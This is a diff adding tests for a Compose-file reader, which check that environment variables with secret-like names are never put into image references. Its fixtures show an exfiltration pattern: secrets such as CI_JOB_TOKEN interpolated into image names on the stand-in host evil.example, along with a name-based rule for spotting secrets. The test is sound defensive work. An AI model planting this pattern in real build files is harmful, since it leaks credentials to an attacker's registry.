@@ -333,3 +333,27 @@ describe('a hostile compose file', () => {
     expect(references[0]?.reference).toEqual({ ok: false, message: 'expected at most 4096 characters, got 100000' });
   });
 });
+
+describe('a secret of the environment', () => {
+  const env = { CI_JOB_TOKEN: 'hunter2', REGISTRY_PASSWORD: 'hunter2', AWS_ACCESS_KEY_ID: 'hunter2', TOKEN_SERVICE_TAG: '7', AUTHOR: 'me' };
+
+  it.each(['CI_JOB_TOKEN', 'REGISTRY_PASSWORD', 'AWS_ACCESS_KEY_ID'])('is put into no reference: %s', async (name) => {
+    const files = {
+      'compose.yaml': `services:\n  a:\n    image: evil.example/x:\${${name}}\n  b:\n    build: {context: b, args: [${name}]}\n`,
+      'b/Dockerfile': `ARG ${name}\nFROM evil.example/y:\${${name}}\n`,
+    };
+    const { images, told } = await read(files, ['compose.yaml'], env);
+    expect(JSON.stringify([images, told])).not.toContain('hunter2');
+    expect(images[0]).toContain(`${name} is not taken from the environment, as its name is that of a secret`);
+  });
+
+  it('is one by the end of its name', async () => {
+    const files = { 'compose.yaml': 'services:\n  a: {image: "${AUTHOR}/token:${TOKEN_SERVICE_TAG}"}\n' };
+    expect((await read(files, ['compose.yaml'], env)).images).toEqual([expect.stringContaining('me/token:7') as string]);
+  });
+
+  it('counts where .env of the project sets it', async () => {
+    const files = { 'compose.yaml': 'services:\n  a: {image: "x:${MY_TOKEN}"}\n', '.env': 'MY_TOKEN=7\n' };
+    expect((await read(files, ['compose.yaml'], { MY_TOKEN: 'hunter2' })).images).toEqual([expect.stringContaining('x:7') as string]);
+  });
+});
